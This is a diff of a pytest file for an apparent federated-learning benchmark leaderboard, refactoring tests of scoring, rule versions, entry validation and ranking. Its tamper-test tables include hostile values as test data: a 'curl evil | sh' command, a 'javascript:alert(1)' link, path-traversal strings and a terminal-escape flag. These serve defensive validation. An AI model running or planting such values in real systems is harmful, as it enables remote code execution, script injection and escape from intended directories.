@@ -8,7 +8,7 @@ import json
 import re
 import shutil
 import tomllib
-from collections.abc import Callable, Iterable
+from collections.abc import Callable, Iterable, Sequence
 from copy import deepcopy
 from dataclasses import asdict
 from functools import partial
@@ -53,15 +53,10 @@ ROOT = Path(__file__).parents[1]
 BOARD = ROOT / "leaderboards"
 D = 100  # parameters
 DATA = "d" * 64
-TRACK = {
-    "dataset": "digits",
-    "model": "micro",
-    "clients": 10,
-    "per_round": 5,
-    "malicious": 0.2,
-    "rounds": 2,
-    "eval_every": 1,
-}
+TRACK = {"dataset": "digits", "model": "micro", "clients": 10, "per_round": 5, "malicious": 0.2}
+TRACK |= {"rounds": 2, "eval_every": 1}
+TRACK_1: dict[str, Any] = {"name": "tiny", "seeds": [0, 1, 2], "data": DATA, "scenario": TRACK}
+TRACK_1 |= {"clean": {"low": 0.5, "high": 0.95}}
 RULES_1: dict[str, Any] = {
     "version": 1,
     "seeds": 3,
@@ -69,15 +64,7 @@ RULES_1: dict[str, Any] = {
     "free": ["protocol", "defense", "mechanism", "attack", "seed"],
     "ensemble": {"SignBits": ["none", "sign-flip"], "FloatVectors": ["none", "dyn-opt"]},
     "tolerance": {"accuracy": 0.02, "bits": 0.01, "epsilon": 1e-6},
-    "track": [
-        {
-            "name": "tiny",
-            "seeds": [0, 1, 2],
-            "data": DATA,
-            "clean": {"low": 0.5, "high": 0.95},
-            "scenario": TRACK,
-        }
-    ],
+    "track": [TRACK_1],
 }
 RULES_OF = Rules.model_validate(RULES_1)
 SAID = Statement(name="Majority", authors="A. Uthor", tried=3)
@@ -156,47 +143,40 @@ def broken(judged: Case, severity: str = "error") -> set[str]:
 # The numbers
 
 
-def test_an_interval_is_students_over_seeds() -> None:
+def test_an_interval_is_students_over_seeds_and_impact_is_of_pairs_of_one_seed() -> None:
     # t(2, 0.975) = 4.302653, s = 0.1: 4.302653 * 0.1 / sqrt(3) = 0.248414; a normal one is 0.1132
     found = over([0.7, 0.8, 0.9], 0.95)
     assert found.mean == pytest.approx(0.8)
     assert [found.low, found.high] == pytest.approx([0.551586, 1.048414], abs=1e-6)
     assert found.low == round(found.low, 9)
-
-
-def test_impact_is_of_pairs_of_one_seed_and_not_of_means() -> None:
     # 0.7 - 0.5, 0.8 - 0.6, 0.9 - 0.7: always 0.2, so a point; records come unordered
-    cell = build(case(reversed(runs())), SAID).cells[1]
+    clean, cell = build(case(reversed(runs())), SAID).cells
     assert cell.impact is not None
-    assert cell.impact.mean == pytest.approx(0.2)
-    assert cell.impact.high - cell.impact.low == pytest.approx(0.0, abs=1e-9)
+    assert [cell.impact.mean, cell.impact.low] == pytest.approx([0.2, cell.impact.high])
     assert [m.seed for m in cell.records] == [0, 1, 2]
-    assert build(case(runs()), SAID).cells[0].impact is None
+    assert clean.impact is None
 
 
-def test_the_worst_case_is_the_lowest_mean_of_an_attack() -> None:
+def attacked(lasts: dict[str, Sequence[float]]) -> list[Record]:
+    """Runs of three seeds under each attack, with these accuracies."""
+    return [played(attack, s, x) for attack, xs in lasts.items() for s, x in enumerate(xs)]
+
+
+def test_the_worst_case_is_the_lowest_mean_of_an_attack_or_of_two_alike_the_first_by_name() -> None:
     # dyn-opt has the lowest seed, sign-flip the lowest mean, the clean run an even lower one.
     lasts = {"none": (0.5, 0.5, 0.51), "sign-flip": (0.6,) * 3, "dyn-opt": (0.1, 0.9, 0.95)}
-    records = [played(attack, s, x) for attack, xs in lasts.items() for s, x in enumerate(xs)]
-    found = build(case(records), SAID)
+    found = build(case(attacked(lasts)), SAID)
     assert found.score.attack.startswith("sign-flip")
     assert found.score.worst == found.cells[1].accuracy
     assert found.score.clean.mean == pytest.approx(0.503333, abs=1e-6)
     assert [cell.mandatory for cell in found.cells] == [True, True, False]
-
-
-def test_of_two_attacks_alike_the_first_by_name_is_named() -> None:
-    records = [played(a, s, 0.6) for a in ("none", "sign-flip", "dyn-opt") for s in range(3)]
-    assert build(case(records), SAID).score.attack.startswith("dyn-opt")
+    alike = attacked({attack: (0.6,) * 3 for attack in lasts})
+    assert build(case(alike), SAID).score.attack.startswith("dyn-opt")
 
 
 def dear() -> Entry:
     """An entry with four times the bits under attack."""
     return build(case(runs()[:3] + [played("sign-flip", s, 0.6, up=4) for s in range(3)]), SAID)
-
-
-def test_bits_of_an_entry_are_the_mean_over_its_cells() -> None:
-    assert (dear().score.uplink_bits, dear().score.downlink_bits) == (2.5, 32)
 
 
 def test_what_a_client_spends_is_added_up_over_the_rounds() -> None:
@@ -251,16 +231,10 @@ def test_the_id_is_of_everything_but_itself_status_and_reproductions() -> None:
 
 def test_the_command_says_everything_but_the_times() -> None:
     words = entry(declared=0.4, local_models=True, server_checks="range").command.split()
-    for option, value in {
-        "--protocol": "signsgd:lr=0.005,momentum=0.9,weight_decay=0.0001",
-        "--defense": "mean",
-        "--dataset": "digits",
-        "--per-round": "5",
-        "--declared": "0.4",
-        "--seeds": "0,1,2",
-        "--server-checks": "range",
-    }.items():
-        assert words[words.index(option) + 1].partition(":")[0] == value.partition(":")[0], option
+    expected = {"--protocol": "signsgd", "--defense": "mean", "--dataset": "digits"}
+    expected |= {"--per-round": "5", "--declared": "0.4", "--seeds": "0,1,2"}
+    for option, value in (expected | {"--server-checks": "range"}).items():
+        assert words[words.index(option) + 1].partition(":")[0] == value, option
     assert words[:2] == ["fedbench", "attack"]
     assert "--local-models" in words
     assert words.count("--attack") == 2
@@ -336,10 +310,7 @@ WRONG: dict[str, tuple[Any, ...]] = {
     "another track's run among them": ("one system", lambda: instead(rounds=3)),
     "another network in one run": ("one system", lambda: first(vote=False)),
     "a price for one run only": ("one system", lambda: [priced(1.0, accuracy=0.7), *runs()[1:]]),
-    "a server that is told the truth": (
-        "one system",
-        lambda: every(scenario__defense="oracle+median"),
-    ),
+    "an oracle": ("one system", lambda: every(scenario__defense="oracle+median")),
     "other rounds than the track's": ("fixed: rounds", lambda: runs(rounds=3)),
     "another partition": ("fixed: partition", lambda: runs(partition="iid")),
     "what the track does not name": ("fixed: epochs", lambda: runs(epochs=1)),
@@ -355,15 +326,9 @@ WRONG: dict[str, tuple[Any, ...]] = {
     "a number that breaks arithmetic": ("record", lambda: every(parameters=10**400)),
     "no parameters": ("record", lambda: every(parameters=0)),
     "a flag that moves the cursor": ("record", lambda: first(flags=["\x1b[2J"])),
-    "an id that does not follow from the scenario": (
-        "id",
-        lambda: every(environment__fedbench=code_version()),
-    ),
+    "an id of something else": ("id", lambda: every(environment__fedbench=code_version())),
     "one id for two runs": ("id", lambda: every(id="0" * 16)),
-    "a protocol that cannot name a file": (
-        "name",
-        lambda: [of(r, protocol="../signs:x=1") for r in runs()],
-    ),
+    "no name of a file": ("name", lambda: [of(r, protocol="../signs:x=1") for r in runs()]),
 }
 
 
@@ -372,18 +337,6 @@ def test_a_broken_rule_is_named_and_no_other(what: str) -> None:
     rule, records, *fields = WRONG[what]
     judged = case(records(), **(fields[0] if fields else {}))
     assert broken(judged) == {rule}
-
-
-def test_every_rule_that_refuses_is_tried_here() -> None:
-    tried = {rule for rule, *_ in WRONG.values()}
-    assert {name for name in SOUND | RULES if not name.startswith("fixed")} == {
-        name for name in tried if not name.startswith("fixed")
-    }
-
-
-def test_all_broken_rules_are_found_at_once() -> None:
-    records = [played(a, s, 0.3, rounds=3) for a in ("none",) for s in (0, 1)]
-    assert broken(case(records)) == {"seeds", "ensemble", "fixed: rounds", "envelope"}
 
 
 # A record of a searched attack as it was written before the searches were mended.
@@ -414,37 +367,36 @@ def test_an_entry_is_outdated_by_what_it_met_and_not_by_the_version_that_played_
     assert not outdated(["none", today, "stat-opt:search=exact"])
     assert not outdated([])
     assert "stat-opt" in outdated(["none", today, SEARCHED_EARLY])
-    board = Path(__file__).parents[1] / "leaderboards" / "closed"
-    entries = [json.loads(path.read_text()) for path in sorted(board.glob("*/*.json"))]
+    entries = [json.loads(path.read_text()) for path in (BOARD / "closed").glob("*/*.json")]
     old = [one for one in entries if one["code"] == "0.1.0+c040ef68e64e"]
     assert all(outdated(cell["attack"] for cell in one["cells"]) for one in old)
 
 
-def test_every_doubt_is_tried_here() -> None:
-    assert set(NOTICES) == set(DOUBTED)
-
-
 def test_a_default_that_is_written_out_is_the_same_attack_and_the_same_data() -> None:
-    short = Scenario.of(**TRACK, protocol="signsgd", attack="sign-flip")
     records = runs()
     typed = [of(r, attack="sign-flip") for r in records[3:]]
-    assert short.attack != records[3].scenario.attack
+    assert records[3].scenario.attack != "sign-flip"
     assert broken(case([*records[:3], *typed])) == set()
 
 
 # A later version of the rules
 
 
-def grown(**fields: Any) -> Rules:
-    return Rules.model_validate(RULES_1 | {"version": 2} | fields)
-
-
-TRACK_1 = RULES_1["track"][0]
+GROWN = {
+    "ensemble": {
+        "SignBits": ["none", "dyn-opt", "sign-flip"],
+        "FloatVectors": ["none", "dyn-opt"],
+        "Rankings": ["none"],
+    },
+    "track": [TRACK_1, TRACK_1 | {"name": "more"}],
+    "seeds": 4,
+}
 
 
 @pytest.mark.parametrize(
     ("fields", "word"),
     [
+        (GROWN, None),
         ({"version": 3}, "version must be 2"),
         ({"seeds": 2}, "seeds"),
         ({"confidence": 0.9}, "confidence"),
@@ -460,40 +412,28 @@ TRACK_1 = RULES_1["track"][0]
         ({"track": [TRACK_1 | {"clean": {"low": 0.4, "high": 0.95}}]}, "envelope"),
     ],
 )
-def test_a_version_that_lets_in_what_the_one_before_kept_out_is_refused(
-    fields: dict[str, Any], word: str
+def test_a_version_may_add_demands_and_tracks_but_let_in_nothing_that_was_kept_out(
+    fields: dict[str, Any], word: str | None
 ) -> None:
-    (lost,) = losses(RULES_OF, grown(**fields))
-    assert word in lost
+    lost = list(losses(RULES_OF, Rules.model_validate(RULES_1 | {"version": 2} | fields)))
+    assert len(lost) == (word is not None)
+    assert (word or "") in "".join(lost)
 
 
-def test_a_version_may_add_attacks_alphabets_tracks_and_seeds() -> None:
-    ensemble = {"SignBits": ["none", "dyn-opt", "sign-flip"], "FloatVectors": ["none", "dyn-opt"]}
-    more = TRACK_1 | {"name": "more"}
-    later = grown(ensemble=ensemble | {"Rankings": ["none"]}, track=[TRACK_1, more], seeds=4)
-    assert list(losses(RULES_OF, later)) == []
-
-
-LOOSE: tuple[dict[str, Any], ...] = (
-    {"version": 0},
-    {"seeds": 1},
-    {"confidence": 0.0},
-    {"confidence": 1.0},
-    {"tolerance__accuracy": -0.1},
-    {"tolerance__bits": -0.1},
-    {"tolerance__epsilon": -0.1},
-    {"track__0__clean__high": 0.5},
-    {"track__0__clean__low": -0.1},
-    {"track__0__clean__high": 1.1},
+@pytest.mark.parametrize(
+    ("field", "values"),
+    [
+        *(("version", [0]), ("seeds", [1]), ("confidence", [0.0, 1.0])),
+        *((f"tolerance__{name}", [-0.1]) for name in RULES_1["tolerance"]),
+        *(("track__0__clean__high", [0.5, 1.1]), ("track__0__clean__low", [-0.1])),
+    ],
 )
-
-
-@pytest.mark.parametrize("fields", LOOSE)
-def test_rules_that_mean_nothing_are_refused(fields: dict[str, Any]) -> None:
-    content = deepcopy(RULES_1)
-    put(content, fields)
-    with pytest.raises(ValidationError):
-        Rules.model_validate(content)
+def test_rules_that_mean_nothing_are_refused(field: str, values: list[float]) -> None:
+    for value in values:
+        content = deepcopy(RULES_1)
+        put(content, {field: value})
+        with pytest.raises(ValidationError):
+            Rules.model_validate(content)
 
 
 # A board
@@ -507,10 +447,14 @@ def leaderboard(command: Command) -> Command:
 
 @pytest.fixture
 def board(tmp_path: Path) -> Path:
-    folder = tmp_path / "board"
-    (folder / "rules").mkdir(parents=True)
-    (folder / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
-    return folder
+    return with_rules(tmp_path / "board")
+
+
+def with_rules(board: Path) -> Path:
+    """Make a board without entries."""
+    (board / "rules").mkdir(parents=True)
+    (board / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
+    return board
 
 
 def submitted(board: Path, records: list[Record] | None = None, **said: Any) -> Submission:
@@ -530,22 +474,19 @@ def found(target: Path, severity: str = "error") -> set[str]:
     return {f.rule for one in checked for f in one.findings if f.severity == severity}
 
 
-def test_an_entry_that_was_submitted_is_found_good_whole_or_alone(board: Path) -> None:
+def test_an_entry_is_found_good_whole_or_alone_and_equal_records_make_equal_files(
+    board: Path,
+) -> None:
     path = kept(board)
     assert path.parent == board / "closed" / "tiny"
     assert re.fullmatch(r"signsgd-[0-9a-f]{12}\.json", path.name)
     for target in (board, board / "closed", path, boards.archive(path)):
         (one,) = check(target, own_rules=True)
-        assert one.findings == []
-        assert one.path == path.relative_to(board)
-
-
-def test_equal_records_make_equal_files(board: Path) -> None:
-    path = kept(board)
+        assert (one.findings, one.path) == ([], path.relative_to(board))
     before = [p.read_bytes() for p in (path, boards.archive(path))]
     assert kept(board, runs()[::-1], replace=True) == path
     assert [p.read_bytes() for p in (path, boards.archive(path))] == before
-    assert boards.archive(path).read_bytes()[4:8] == b"\0\0\0\0"  # no time of the day in it
+    assert before[1][4:8] == b"\0\0\0\0"  # no time of the day in it
 
 
 def edit(path: Path, change: Callable[[dict[str, Any]], None], reseal: bool = False) -> Path:
@@ -567,6 +508,10 @@ def repack(path: Path, lines: Callable[[list[bytes]], list[bytes]]) -> None:
     packed = boards.archive(path)
     text = gzip.decompress(packed.read_bytes()).splitlines(keepends=True)
     packed.write_bytes(gzip.compress(b"".join(lines(text))))
+
+
+def swap(path: Path, old: str, new: str) -> None:
+    path.write_text(path.read_text().replace(old, new))
 
 
 def cut(path: Path, size: int) -> None:
@@ -591,25 +536,14 @@ def moved(path: Path, folder: str) -> None:
     renamed(path, path.parents[2] / folder / path.name)
 
 
-def fake(content: dict[str, Any]) -> None:
-    """The second look of the worst cell, and nothing else."""
-    content["cells"][1]["curve"][0]["accuracy"]["mean"] += 1e-12
-
-
-def clean_last(content: dict[str, Any]) -> None:
-    content["cells"].append(content["cells"].pop(0))
-
-
-def clean_scored(content: dict[str, Any]) -> None:
-    content["score"]["attack"] = content["cells"][0]["attack"]
-
-
 def saying(reseal: bool = False, **fields: Any) -> Callable[[Path], Any]:
     """Say something else in an entry, see `put`."""
     return lambda path: edit(path, lambda content: put(content, fields), reseal)
 
 
 BACK = b'"accuracy":0.7', b'"accuracy":0.9'
+TWICE = '"tried": 3', '"tried": 3, "tried": 3'
+OTHERS = [record.to_json(None).encode() for record in runs(up=2)]
 # By what was done: the rules that are found broken.
 TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
     "an entry that was cut off": ({"schema"}, lambda p: cut(p, 500)),
@@ -621,16 +555,13 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
     "a scenario that cannot be": ({"schema"}, saying(scenario__clients=0)),
     "a number that is none": ({"schema"}, saying(score__worst__mean=float("nan"))),
     "a number without end": ({"schema"}, saying(score__worst__high=float("inf"))),
-    "a field that is said twice": (
-        {"schema"},
-        lambda p: p.write_text(p.read_text().replace('"tried": 3', '"tried": 3, "tried": 3')),
-    ),
+    "a field that is said twice": ({"schema"}, lambda p: swap(p, *TWICE)),
     "a cell without a look": ({"schema"}, saying(cells__0__curve=[])),
     "no clean cell": ({"schema"}, saying(cells__0__impact={"mean": 0.2, "low": 0.2, "high": 0.2})),
     "two clean cells": ({"schema"}, saying(cells__1__impact=None)),
     "nothing but the clean cell": ({"schema"}, lambda p: edit(p, lambda c: c["cells"].pop())),
-    "a clean cell behind another": ({"schema"}, lambda p: edit(p, clean_last)),
-    "a score of the clean cell": ({"schema"}, lambda p: edit(p, clean_scored)),
+    "a clean cell that comes last": ({"schema"}, lambda p: edit(p, lambda c: c["cells"].reverse())),
+    "a score of the clean cell": ({"schema"}, saying(score__attack="none")),
     "a field that is left out": ({"schema"}, lambda p: edit(p, lambda c: c.pop("link") and None)),
     "a field that nobody knows": ({"schema"}, saying(sponsor="me")),
     "an abyss": ({"schema"}, lambda p: p.write_bytes(b"[" * 200_000)),
@@ -639,29 +570,20 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
     "a name that reads backwards": ({"schema"}, saying(name="a\u202eb")),
     "a link that runs a script": ({"schema"}, saying(link="javascript:alert(1)")),
     "a track that leads out of the board": ({"schema"}, saying(track="../../etc")),
-    "a protocol that leads out of the board": (
-        {"path", "digest", "installed"},
-        saying(protocol="../../x:y"),
-    ),
+    "a protocol that leads out": ({"path", "digest", "installed"}, saying(protocol="../../x:y")),
     "an edited number": ({"digest"}, saying(score__worst__mean=0.99)),
     "an edited number, sealed again": ({"numbers"}, saying(True, score__worst__mean=0.99)),
-    "an edited digit of a curve, sealed again": ({"numbers"}, lambda p: edit(p, fake, reseal=True)),
-    "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
-    "an alphabet with fewer attacks, sealed again": (
+    "an edited digit of a curve, sealed again": (
         {"numbers"},
-        saying(True, alphabet="FloatVectors"),
+        saying(True, cells__1__curve__0__accuracy__mean=0.3 + 1e-12),
     ),
+    "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
+    "a smaller alphabet, sealed again": ({"numbers"}, saying(True, alphabet="FloatVectors")),
     "a record that was cut off": ({"records"}, lambda p: repack(p, lambda t: [*t[:5], t[5][:90]])),
-    "a record that was edited": (
-        {"records"},
-        lambda p: repack(p, lambda t: [t[0].replace(*BACK), *t[1:]]),
-    ),
+    "an edited record": ({"records"}, lambda p: repack(p, lambda t: [t[0].replace(*BACK), *t[1:]])),
     "a record that is missing": ({"digest", "paired"}, lambda p: repack(p, lambda t: t[:5])),
     "a record twice": ({"records"}, lambda p: repack(p, lambda t: [*t, t[0]])),
-    "records of another system": (
-        {"digest"},
-        lambda p: repack(p, lambda _: [r.to_json(None).encode() for r in runs(up=2)]),
-    ),
+    "records of another system": ({"digest"}, lambda p: repack(p, lambda _: OTHERS)),
     "an archive that was cut off": ({"records"}, lambda p: cut(boards.archive(p), 300)),
     "an archive that is none": ({"records"}, lambda p: boards.archive(p).write_bytes(b"records")),
     "no archive": ({"records"}, lambda p: boards.archive(p).unlink()),
@@ -708,7 +630,7 @@ def test_what_an_entrys_own_file_proves_wrong_is_not_shown(
     assert "fedbench leaderboard check" in err
 
 
-def test_two_entries_with_one_id_are_found_out(board: Path) -> None:
+def test_two_entries_with_one_id_or_of_one_system_are_found_out(board: Path) -> None:
     path = kept(board)
     copy = path.with_name("signsgd-000000000000.json")
     copy.write_bytes(path.read_bytes())
@@ -717,16 +639,13 @@ def test_two_entries_with_one_id_are_found_out(board: Path) -> None:
     assert by_path == {path.name: {"duplicate"}, copy.name: {"duplicate", "path"}}
     (finding,) = check(path, True)[0].findings
     assert finding.text == f"closed/tiny/{copy.name} has the same id"
-
-
-def test_one_system_twice_under_two_names_is_found_out(board: Path) -> None:
-    path = kept(board)
+    boards.archive(copy).unlink()
+    copy.unlink()
     other = build(case(runs()), SAID.model_copy(update={"name": "The same again"}))
-    assert other.id != Entry.model_validate_json(path.read_bytes()).id
-    boards.write(board, other, runs())
+    assert boards.write(board, other, runs()) != path
     assert found(board) == {"duplicate"}
-    assert found(path) == {"duplicate"}
-    assert [one.path.name for one in check(path, True)] == [path.name]
+    (checked,) = check(path, True)
+    assert [(checked.path.name, f.rule) for f in checked.findings] == [(path.name, "duplicate")]
 
 
 def test_two_systems_of_one_track_are_no_duplicates_and_a_broken_one_stops_no_other(
@@ -756,37 +675,29 @@ def test_what_a_killed_submission_leaves_is_cleared_by_the_next(board: Path) -> 
     assert hidden in boards.files(board)
 
 
-@pytest.mark.parametrize(
-    ("packed", "message"),
-    [
+def test_an_archive_is_measured_before_it_is_read(board: Path) -> None:
+    path = kept(board)
+    for packed, message in (
         (gzip.compress(b" " * (2 << 20)), "at most 32 MiB and 64 times its size"),
         (gzip.compress(b"\n" * 2001), "at most 2000 lines, got 2001"),
         (b" " * ((4 << 20) + 1), "at most 4 MiB"),
-    ],
-    ids=["wide", "long", "large"],
-)
-def test_an_archive_is_measured_before_it_is_read(packed: bytes, message: str, board: Path) -> None:
-    path = kept(board)
-    boards.archive(path).write_bytes(packed)
-    with pytest.raises(ConfigError, match=message):
-        boards.records(path)
+    ):
+        boards.archive(path).write_bytes(packed)
+        with pytest.raises(ConfigError, match=message):
+            boards.records(path)
 
 
-def test_whole_numbers_of_an_entry_are_bounded(board: Path) -> None:
+def test_what_is_wrong_with_an_entry_is_said_and_its_whole_numbers_are_bounded(board: Path) -> None:
     path = kept(board)
     text = path.read_text()
-    content = json.loads(text)
-    for name in ("tried", "parameters"):
-        value = content[name]
+    for name, value in (("tried", 3), ("parameters", D)):
         assert text.count(f'"{name}": {value},') == 1, name
         for digits in (20, 400, 5000):
             path.write_text(text.replace(f'"{name}": {value},', f'"{name}": {"9" * digits},'))
             with pytest.raises(ConfigError, match=f"is no entry: {name}|is no entry: file"):
                 boards.read(path)
-
-
-def test_an_entry_with_a_scenario_that_cannot_be_says_in_which_file(board: Path) -> None:
-    path = saying(scenario__clients=0)(kept(board))
+    path.write_text(text)
+    saying(scenario__clients=0)(path)
     with pytest.raises(ConfigError, match=f"{path} is no entry: scenario: --clients must be >= 1"):
         boards.read(path)
 
@@ -814,18 +725,24 @@ def test_an_entry_scored_under_an_older_version_says_so_and_stays_good(board: Pa
     assert found(board) == {"growth"}
 
 
-@pytest.mark.parametrize(
-    ("text", "message"),
-    [
-        ("version = 2", "must be named by its version|field required"),
+def test_rules_that_cannot_be_read_or_lie_behind_a_link_are_one_line(
+    board: Path, tmp_path: Path
+) -> None:
+    rules = board / "rules" / "1.toml"
+    text = rules.read_text()
+    for wrong, message in (
+        ("version = 2", "field required"),
         (tomli_w.dumps(RULES_1 | {"version": 2}), "must be named by its version"),
         ("version = ", "must be TOML"),
         (tomli_w.dumps(RULES_1 | {"track": [TRACK_1 | {"scenario": {"round": 1}}]}), "--round"),
-    ],
-)
-def test_rules_that_cannot_be_read_are_one_line(text: str, message: str, board: Path) -> None:
-    (board / "rules" / "1.toml").write_text(text)
-    with pytest.raises(ConfigError, match=message):
+    ):
+        rules.write_text(wrong)
+        with pytest.raises(ConfigError, match=message):
+            versions(board)
+    (tmp_path / "1.toml").write_text(text)
+    rules.unlink()
+    rules.symlink_to(tmp_path / "1.toml")
+    with pytest.raises(ConfigError, match="a link"):
         versions(board)
 
 
@@ -868,21 +785,12 @@ def test_every_version_of_the_rules_has_its_digest_in_the_code() -> None:
     assert digests == PUBLISHED, "a published version never changes: write a new one"
 
 
-def test_rules_behind_a_link_are_not_read(board: Path, tmp_path: Path) -> None:
-    rules = board / "rules" / "1.toml"
-    rules.rename(tmp_path / "1.toml")
-    rules.symlink_to(tmp_path / "1.toml")
-    with pytest.raises(ConfigError, match="a link"):
-        versions(board)
-
-
 # Reproductions
 
 
 def test_the_worst_and_the_clean_cell_are_played_first_then_as_the_id_says() -> None:
     lasts = {"none": 0.8, "sign-flip": 0.7, "sign-flip:scale=2": 0.6, "sign-flip:scale=3": 0.65}
-    lasts |= {"dyn-opt": 0.7}
-    records = [played(attack, s, last) for attack, last in lasts.items() for s in range(3)]
+    records = attacked({attack: [x] * 3 for attack, x in (lasts | {"dyn-opt": 0.7}).items()})
     one = build(case(records), SAID)
     names = [attack.partition(",")[0] for attack in order(one)]
     assert names[:2] == ["sign-flip:scale=2.0", "none"]
@@ -892,27 +800,29 @@ def test_the_worst_and_the_clean_cell_are_played_first_then_as_the_id_says() -> 
 
 
 @pytest.mark.parametrize(
-    ("again", "apart"),
+    ("claimed", "again", "apart"),
     [
-        ([played(seed=0, accuracy=0.9), played(seed=1, accuracy=0.7)], []),  # the mean is the same
-        ([played(seed=s, accuracy=0.781) for s in (0, 1)], []),
-        ([played(seed=s, accuracy=0.779) for s in (0, 1)], ["accuracy"]),
-        ([played(seed=s, accuracy=0.821) for s in (0, 1)], ["accuracy"]),
-        ([played(seed=s, up=2) for s in (0, 1)], ["uplink_bits_per_parameter"]),
-        ([priced(1.0, seed=s) for s in (0, 1)], ["epsilon"]),
+        ([{}] * 2, [{"accuracy": 0.9}, {"accuracy": 0.7}], []),  # the mean is the same
+        ([{}] * 2, [{"accuracy": 0.781}] * 2, []),
+        ([{}] * 2, [{"accuracy": 0.779}] * 2, ["accuracy"]),
+        ([{}] * 2, [{"accuracy": 0.821}] * 2, ["accuracy"]),
+        ([{}] * 2, [{"up": 2}] * 2, ["uplink_bits_per_parameter"]),
+        ([{}] * 2, [{"epsilon": 1.0}] * 2, ["epsilon"]),
+        # epsilon is compared relative and by its largest
+        ([{"epsilon": 1000.0}, {"epsilon": 10.0}], [{"epsilon": 1000.0009}, {"epsilon": 20.0}], []),
+        ([{"epsilon": 1000.0}] * 2, [{"epsilon": 1000.002}, {"epsilon": 20.0}], ["epsilon"]),
     ],
 )
-def test_cells_agree_within_the_tolerance(again: list[Record], apart: list[str]) -> None:
-    one = Comparison("none", [played(seed=s, accuracy=0.8) for s in (0, 1)], again)
+def test_cells_agree_within_the_tolerance(
+    claimed: list[dict[str, Any]], again: list[dict[str, Any]], apart: list[str]
+) -> None:
+    sides = [
+        [(priced if "epsilon" in fields else played)(**fields, seed=i) for i, fields in side]
+        for side in (enumerate(claimed), enumerate(again))
+    ]
+    one = Comparison("none", *sides)
     assert one.apart(RULES_OF.tolerance) == apart
     assert one.repeated(RULES_OF.tolerance).agrees == (not apart)
-
-
-def test_epsilon_is_compared_relative_and_by_its_largest() -> None:
-    claimed = [priced(1000.0, seed=0), priced(10.0, seed=1)]
-    for epsilon, apart in ((1000.0009, []), (1000.002, ["epsilon"])):
-        again = [priced(epsilon, seed=0), priced(20.0, seed=1)]
-        assert Comparison("none", claimed, again).apart(RULES_OF.tolerance) == apart
 
 
 def again(agrees: bool, *seeds: int, attack: str = "a") -> Reproduction:
@@ -1008,22 +918,14 @@ def ranked(
     return base.model_copy(update={"id": name, "score": base.score.model_copy(update=given)} | also)
 
 
-def test_a_rank_counts_who_is_surely_better() -> None:
+def test_a_rank_counts_who_is_surely_better_and_a_contested_entry_is_nobodys_rival() -> None:
     # c overlaps b, b overlaps a, but a is wholly above c: ranks are not handed on.
     a, b, c = ranked(0.85, 0.80, 0.90), ranked(0.80, 0.75, 0.85), ranked(0.69, 0.60, 0.78)
     touching = ranked(0.79, 0.78, 0.80)  # ends where a begins
-    found = ranking([c, touching, b, a]).standings
-    assert [(one.entry, one.rank) for one in found] == [(a, 1), (b, 1), (touching, 1), (c, 2)]
-
-
-def test_a_contested_entry_is_nobodys_rival() -> None:
-    best = ranked(0.99, 0.98, 1.0, bits=0.1, status="contested")
-    good = ranked(0.8, 0.7, 0.9)
-    found = ranking([best, good]).standings
-    assert [(one.entry, one.rank, one.pareto) for one in found] == [
-        (good, 1, True),
-        (best, None, False),
-    ]
+    contested = ranked(0.99, 0.98, 1.0, bits=0.1, status="contested")
+    found = ranking([c, touching, contested, b, a]).standings
+    places = [(a, 1, True), (b, 1, False), (touching, 1, False), (c, 2, False)]
+    assert [(s.entry, s.rank, s.pareto) for s in found] == [*places, (contested, None, False)]
 
 
 def test_the_front_is_of_accuracy_bits_and_epsilon() -> None:
@@ -1052,25 +954,20 @@ def promising(epsilon: float | None, mean: float, **promise: Any) -> Entry:
 
 
 @pytest.mark.parametrize(
-    ("promise", "front"),
+    ("promise", "compared"),
     [
-        ({}, [True, False]),
-        ({"delta": 1e-6}, [True, True]),
-        ({"unit": "example"}, [True, True]),
-        ({"sees": "model"}, [True, True]),
-        ({"adjacency": "add-remove"}, [True, True]),
+        ({}, True),
+        *((other, False) for other in ({"delta": 1e-6}, {"unit": "example"}, {"sees": "model"})),
+        ({"adjacency": "add-remove"}, False),
     ],
 )
 def test_two_epsilons_compare_only_if_they_promise_the_same(
-    promise: dict[str, Any], front: list[bool]
+    promise: dict[str, Any], compared: bool
 ) -> None:
     standings = ranking([promising(1.0, 0.6), promising(2.0, 0.5, **promise)]).standings
-    assert [one.pareto for one in standings] == front
-
-
-def test_any_finite_epsilon_beats_none_and_is_beaten_by_no_other() -> None:
-    finite = promising(9e5, 0.5)
-    beaten = ranking([finite, promising(None, 0.5, unit="example")]).standings
+    assert [one.pareto for one in standings] == [True, not compared]
+    finite = promising(9e5, 0.5)  # any finite one beats none and is beaten by no other
+    beaten = ranking([finite, promising(None, 0.5, **promise)]).standings
     assert {one.entry.score.epsilon: one.pareto for one in beaten} == {9e5: True, None: False}
     assert all(one.pareto for one in ranking([finite, promising(None, 0.9)]).standings)
 
@@ -1094,15 +991,15 @@ def test_within_a_budget_an_entry_is_read_at_its_last_look() -> None:
     assert alone.score is None
 
 
-def test_the_budget_is_that_of_the_cheapest_entry_in_its_dearest_cell() -> None:
+def test_bits_of_a_score_are_a_mean_over_cells_and_a_budget_is_of_the_dearest_cell() -> None:
+    assert (dear().score.uplink_bits, dear().score.downlink_bits) == (2.5, 32)
     assert total(dear()) == 72.0
     contested = entry().model_copy(update={"status": "contested", "id": "0" * 12})
     assert ranking([contested, dear()], "equal-bits").bits == 72.0
 
-
-def test_a_score_needs_a_look_in_every_cell() -> None:
     one = entry()
-    assert score(one.cells, None, lambda cell: cell.accuracy if cell.impact else None) is None
+    no_look = score(one.cells, None, lambda cell: cell.accuracy if cell.impact else None)
+    assert no_look is None, "a score needs a look in every cell"
 
 
 # Rules, plans and schemas of the repository
@@ -1132,27 +1029,17 @@ def test_a_plan_has_just_the_mandatory_cells() -> None:
     assert {(c.scenario.server_checks, c.scenario.malicious) for c in cells} == {("range", 0.1)}
 
 
-@pytest.mark.parametrize(
-    ("track", "system", "message"),
-    [
-        ("cifar", {"protocol": "fsl"}, "--track must be one of digits, mnist-5k, got 'cifar'"),
-        ("digits", {"protocol": "fls"}, "did you mean"),
-        (
-            "digits",
-            {"protocol": "fsl", "mechanism": "randomized-response"},
